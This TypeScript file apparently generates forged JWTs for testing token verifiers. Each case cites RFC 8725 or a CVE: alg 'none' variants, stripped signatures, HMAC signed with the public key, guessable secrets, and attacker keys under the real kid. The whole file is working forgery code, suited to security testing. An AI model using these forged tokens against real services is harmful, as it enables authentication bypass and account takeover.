import { createPublicKey, type KeyObject } from "node:crypto";
import { attackerKey, compact, encodePart, type Forge, type ForgedToken, from, signerOf } from "./forge.ts";

/** Tokens that choose their own algorithm, or none. */
export function forgedAlgorithms(forge: Forge): ForgedToken[] {
  return [...unsigned(forge), ...confused(forge), ...guessedSecrets(forge), ...otherAlgorithms(forge)];
}

function unsigned({ header, fresh, parts }: Forge): ForgedToken[] {
  const bare = (alg: unknown) => `${encodePart({ ...header, alg })}.${encodePart(fresh())}.`;
  return [
    ...from("RFC 8725, 2.1 and 3.1; CVE-2015-9235", [
      ...["none", "None", "NONE", "nOnE"].map((alg) => [`alg ${alg} and no signature`, bare(alg)] as const),
      ["alg none under the real signature", `${encodePart({ ...header, alg: "none" })}.${parts[1]}.${parts[2]}`],
      ["alg none and no third part", bare("none").slice(0, -1)],
      ["alg none in a header of nothing else", `${encodePart({ alg: "none" })}.${encodePart(fresh())}.`],
    ]),
    ...from("RFC 7515, 4.1.1: alg is required, a text, and case-sensitive", [
      ["no alg", bare(undefined)],
      ["an empty alg", bare("")],
      ["alg null", bare(null)],
      ["alg as a list", bare([header.alg])],
      ["alg in lower case under the real signature", relabelled(header, parts, String(header.alg).toLowerCase())],
    ]),
    ...from("RFC 8725, 2.1; CVE-2020-28042: an empty signature counted as a good one", [
      ["the real header and an empty signature", `${parts[0]}.${encodePart(fresh())}.`],
      ["the real text without its signature", `${parts[0]}.${parts[1]}.`],
      ["the real text without its third part", `${parts[0]}.${parts[1]}`],
    ]),
  ];
}

function relabelled(header: object, parts: Forge["parts"], alg: string): string {
  return `${encodePart({ ...header, alg })}.${parts[1]}.${parts[2]}`;
}

/** The public key taken for a shared secret: everybody has it, so everybody could sign. */
function confused({ jwk, header, fresh }: Forge): ForgedToken[] {
  if (jwk === undefined) return [];
  const key = createPublicKey({ key: jwk, format: "jwk" });
  const hmac = (alg: string, secret: string | Buffer) => compact({ ...header, alg }, fresh(), signerOf(alg, secret));
  const pem = key.export({ type: "spki", format: "pem" }) as string;
  return from("RFC 8725, 2.1; CVE-2016-10555, CVE-2022-23541", [
    ["HS256 signed with the public key as PEM", hmac("HS256", pem)],
    ["HS256 signed with the public key as PEM without its last line break", hmac("HS256", pem.trimEnd())],
    ["HS256 signed with the public key as DER", hmac("HS256", key.export({ type: "spki", format: "der" }))],
    ["HS256 signed with the public key as JWK text", hmac("HS256", JSON.stringify(jwk))],
    ["HS256 signed with the JWKS document", hmac("HS256", JSON.stringify({ keys: [jwk] }))],
    ["HS256 signed with the public key's own bytes", hmac("HS256", rawKey(jwk))],
    ["HS384 signed with the public key as PEM", hmac("HS384", pem)],
    ["HS512 signed with the public key as PEM", hmac("HS512", pem)],
  ]);
}

/** A point without compression, or a modulus. */
function rawKey({ x, y, n }: { x?: string; y?: string; n?: string }): Buffer {
  if (n !== undefined) return Buffer.from(n, "base64url");
  return Buffer.concat([Buffer.from([4]), Buffer.from(x ?? "", "base64url"), Buffer.from(y ?? "", "base64url")]);
}

function guessedSecrets({ header, claims, fresh }: Forge): ForgedToken[] {
  const secrets = new Set(["", "secret", "changeme", String(claims.iss), String(header.kid), "null", "undefined"]);
  return from(
    "RFC 8725, 3.5: secrets that can be guessed",
    [...secrets].map((secret) => [
      `HS256 signed with the secret ${JSON.stringify(secret)}`,
      compact({ ...header, alg: "HS256" }, fresh(), signerOf("HS256", secret)),
    ]),
  );
}

/** The attacker's own keys under the real kid, with each algorithm that such a key has. */
function otherAlgorithms({ header, fresh }: Forge): ForgedToken[] {
  const own = (alg: string, key: KeyObject) => compact({ ...header, alg }, fresh(), signerOf(alg, key));
  const rsa = attackerKey("RSA").privateKey;
  return from("RFC 8725, 3.1 and 3.2: only the key's own algorithm, and only the issuer's key", [
    ["ES256 by the attacker's key under the real kid", own("ES256", attackerKey("P-256").privateKey)],
    ["ES384 by the attacker's key under the real kid", own("ES384", attackerKey("P-384").privateKey)],
    ["EdDSA by the attacker's key under the real kid", own("EdDSA", attackerKey("Ed25519").privateKey)],
    ["RS256 by the attacker's key under the real kid", own("RS256", rsa)],
    ["RS512 by the attacker's key under the real kid", own("RS512", rsa)],
    [
      "RS256 by the attacker's key under alg ES256",
      compact({ ...header, alg: "ES256" }, fresh(), signerOf("RS256", rsa)),
    ],
  ]);
}
